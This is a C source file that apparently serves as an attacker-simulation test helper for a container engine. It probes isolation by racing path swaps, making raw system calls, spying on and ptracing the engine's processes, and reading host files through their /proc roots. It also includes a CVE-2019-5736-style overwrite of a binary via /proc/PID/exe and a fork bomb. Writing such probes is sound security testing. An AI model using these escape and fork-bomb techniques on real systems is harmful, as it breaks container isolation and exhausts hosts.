/*
 * What an attacker inside a container does where busybox is not enough.
 *   attacker fds                  the descriptors that are open
 *   attacker lines                argv and environment as they are
 *   attacker swap A B             exchange two paths for ever
 *   attacker calls < CALLS        make system calls (abi 64, 32 or x32, number, three arguments): "ok" or "errno N" each
 *   attacker spy SECONDS          reach for every process that comes up: its executable, descriptors, root, memory
 *   attacker rob PATH             the same for what a tracer may have, until there is a file /stop: the host's file PATH,
 *                                 descriptors, capabilities
 *   attacker overwrite PATH       reopen a file for writing through /proc, as runc's was (CVE-2019-5736)
 *   attacker bomb                 fork until it fails; prints how often it went well
 *   attacker ids                  real, effective and saved user and group
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

static int show_fds(void) {
    for (int fd = 0; fd < 1024; fd++)
        if (fcntl(fd, F_GETFD) >= 0) printf("%d\n", fd);
    return 0;
}

static _Noreturn void swap(const char *a, const char *b) {
    for (;;) syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */);
}

/* -- system calls ------------------------------------------------------------------------------------------------- */

#ifdef __x86_64__
static long call_64(long number, long a, long b, long c) {
    long result;
    register long d __asm__("r10") = 0;

    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(number), "D"(a), "S"(b), "d"(c), "r"(d)
                     : "rcx", "r8", "r9", "r11", "memory");
    return result;
}

static long call_32(long number, long a, long b, long c) {
    int result;

    __asm__ volatile("int $0x80"
                     : "=a"(result)
                     : "a"((int)number), "b"((int)a), "c"((int)b), "d"((int)c), "S"(0), "D"(0)
                     : "r8", "r9", "r10", "r11", "memory");
    return result;
}

static int make_calls(void) {
    char abi[4];
    long number, a, b, c;
    int status;

    while (scanf("%3s %ld %ld %ld %ld", abi, &number, &a, &b, &c) == 5) {
        pid_t child = fork();
        if (child == 0) {
            long result = strcmp(abi, "32") == 0 ? call_32(number, a, b, c) : call_64(number, a, b, c);
            _exit(result < 0 && result > -200 ? (int)-result : 0);
        }
        if (child < 0 || waitpid(child, &status, 0) < 0) return 1;
        if (WIFSIGNALED(status))
            printf("signal %d\n", WTERMSIG(status));
        else if (WEXITSTATUS(status))
            printf("errno %d\n", WEXITSTATUS(status));
        else
            printf("ok\n");
        fflush(stdout);
    }
    return 0;
}
#else
static int make_calls(void) {
    return 2;
}
#endif

/* -- other processes ---------------------------------------------------------------------------------------------- */

static struct { int seen, exe, written, fds, root, environment, memory, traced; } spied;

/* only: what the path must lead to, or NULL. */
static int overwrite(const char *path, const char *only) {
    char again[64], target[PATH_MAX] = "";
    int fd = open(path, O_PATH | O_CLOEXEC), result = -1;

    if (fd < 0) return -1;
    snprintf(again, sizeof(again), "/proc/self/fd/%d", fd);
    if (only && (readlink(again, target, sizeof(target) - 1) < 0 || !strstr(target, only))) return close(fd), -1;
    for (int attempt = 0; attempt < 200 && result < 0; attempt++) result = open(again, O_WRONLY | O_CLOEXEC);
    close(fd);
    if (result < 0) return -1;
    ssize_t written = write(result, "#!/evil\n", 8);
    close(result);
    return written == 8 ? 0 : -1;
}

static int can_open(const char *directory, const char *name, int flags) {
    char path[PATH_MAX];

    snprintf(path, sizeof(path), "%s/%s", directory, name);
    int fd = open(path, flags | O_CLOEXEC);
    if (fd >= 0) close(fd);
    return fd >= 0;
}

/* The process is one of the engine's own: it has not become the container's program yet. */
static int is_engines(const char *directory) {
    char path[PATH_MAX], name[32] = "";

    snprintf(path, sizeof(path), "%s/comm", directory);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return 0;
    if (read(fd, name, sizeof(name) - 1) < 0) name[0] = 0;
    close(fd);
    return strncmp(name, "cloche:", 7) == 0;
}

/* Their numbers may be listed by root; where they lead shall stay closed. */
static int has_descriptors(const char *directory) {
    char path[PATH_MAX], target[PATH_MAX];
    int found = 0;

    for (int fd = 0; fd < 32; fd++) {
        snprintf(path, sizeof(path), "%s/fd/%d", directory, fd);
        found += readlink(path, target, sizeof(target)) > 0;
    }
    return found;
}

/* What is reached after execve is the container's own. */
static int counts(const char *directory, int reached) {
    return reached && is_engines(directory);
}

static void reach_for(const char *directory, pid_t pid) {
    char path[PATH_MAX];

    spied.seen++;
    spied.fds += counts(directory, has_descriptors(directory) > 0);
    spied.root += counts(directory, can_open(directory, "root/etc", O_PATH));
    spied.environment += counts(directory, can_open(directory, "environ", O_RDONLY));
    spied.memory += counts(directory, can_open(directory, "mem", O_RDWR));
    spied.exe += counts(directory, can_open(directory, "exe", O_RDONLY));
    snprintf(path, sizeof(path), "%s/exe", directory);
    spied.written += overwrite(path, "launcher") == 0;
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        spied.traced += counts(directory, 1);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
}

static int spy(int seconds) {
    char directory[64];
    time_t end = time(NULL) + seconds;

    while (time(NULL) < end) {
        DIR *processes = opendir("/proc");
        if (!processes) return 1;
        for (struct dirent *entry; (entry = readdir(processes));) {
            pid_t pid = atoi(entry->d_name);
            snprintf(directory, sizeof(directory), "/proc/%d", pid);
            if (pid > 0 && pid != getpid() && is_engines(directory)) reach_for(directory, pid);
        }
        closedir(processes);
    }
    printf("{\"seen\":%d,\"exe\":%d,\"written\":%d,\"fds\":%d,\"root\":%d,\"environment\":%d,\"memory\":%d,\"traced\":%"
           "d}\n",
           spied.seen, spied.exe, spied.written, spied.fds, spied.root, spied.environment, spied.memory, spied.traced);
    return 0;
}

/* -- with CAP_SYS_PTRACE: what a process on its way in has that we have not ----------------------------------------- */

static struct { int seen, robbed, stronger, descriptors; } loot;

static unsigned long long permitted(const char *directory) {
    char path[PATH_MAX], text[4096];

    snprintf(path, sizeof(path), "%s/status", directory);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t length = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);
    if (fd >= 0) close(fd);
    if (length <= 0) return 0;
    text[length] = 0;
    char *at = strstr(text, "CapPrm:");
    return at ? strtoull(at + strlen("CapPrm:"), NULL, 16) : 0;
}

/* Beyond its stdio and pipes: sockets, files, processes, directories of the host's. */
static int has_more_than_pipes(const char *directory) {
    char path[PATH_MAX], target[PATH_MAX];

    for (int fd = 3; fd < 128; fd++) {
        snprintf(path, sizeof(path), "%s/fd/%d", directory, fd);
        ssize_t length = readlink(path, target, sizeof(target) - 1);
        if (length > 0 && strncmp(target, "pipe:", 5) != 0) return 1;
    }
    return 0;
}

static void rob_one(const char *directory, const char *treasure, unsigned long long ours) {
    char path[PATH_MAX];

    snprintf(path, sizeof(path), "%s/root%s", directory, treasure);
    int robbed = access(path, R_OK) == 0;
    int stronger = (permitted(directory) & ~ours) != 0, descriptors = has_more_than_pipes(directory);
    loot.seen++;
    loot.robbed += robbed;
    loot.stronger += counts(directory, stronger);
    loot.descriptors += counts(directory, descriptors);
}

static int rob(const char *treasure) {
    char directory[64];
    unsigned long long ours = permitted("/proc/self");

    while (access("/stop", F_OK) != 0) {
        DIR *processes = opendir("/proc");
        if (!processes) return 1;
        for (struct dirent *entry; (entry = readdir(processes));) {
            snprintf(directory, sizeof(directory), "/proc/%d", atoi(entry->d_name));
            if (atoi(entry->d_name) > 0 && is_engines(directory)) rob_one(directory, treasure, ours);
        }
        closedir(processes);
    }
    printf("{\"seen\":%d,\"robbed\":%d,\"stronger\":%d,\"descriptors\":%d}\n", loot.seen, loot.robbed, loot.stronger,
           loot.descriptors);
    return 0;
}

/* -- the rest ----------------------------------------------------------------------------------------------------- */

static int bomb(void) {
    int made = 0;

    signal(SIGCHLD, SIG_DFL);
    for (pid_t child; made < 100000 && (child = fork()) >= 0; made++)
        if (child == 0) pause();
    printf("%d %d\n", made, errno);
    fflush(stdout);
    kill(0, SIGKILL);
    return 0;
}

static int show_ids(void) {
    uid_t real, effective, saved;
    gid_t real_group, effective_group, saved_group;

    getresuid(&real, &effective, &saved);
    getresgid(&real_group, &effective_group, &saved_group);
    printf("%d %d %d %d %d %d\n", real, effective, saved, real_group, effective_group, saved_group);
    return 0;
}

static int show_lines(char **argv) {
    for (; *argv; argv++) printf("argument %s\n", *argv);
    for (char **variable = environ; *variable; variable++) printf("variable %s\n", *variable);
    return 0;
}

int main(int argc, char **argv) {
    const char *verb = argc > 1 ? argv[1] : "";

    if (strcmp(verb, "fds") == 0) return show_fds();
    if (strcmp(verb, "lines") == 0) return show_lines(argv);
    if (strcmp(verb, "swap") == 0 && argc == 4) swap(argv[2], argv[3]);
    if (strcmp(verb, "calls") == 0) return make_calls();
    if (strcmp(verb, "spy") == 0 && argc == 3) return spy(atoi(argv[2]));
    if (strcmp(verb, "rob") == 0 && argc == 3) return rob(argv[2]);
    if (strcmp(verb, "overwrite") == 0 && argc == 3)
        return overwrite(argv[2], NULL) < 0 ? (puts("refused"), 1) : (puts("written"), 0);
    if (strcmp(verb, "bomb") == 0) return bomb();
    if (strcmp(verb, "ids") == 0) return show_ids();
    return 2;
}
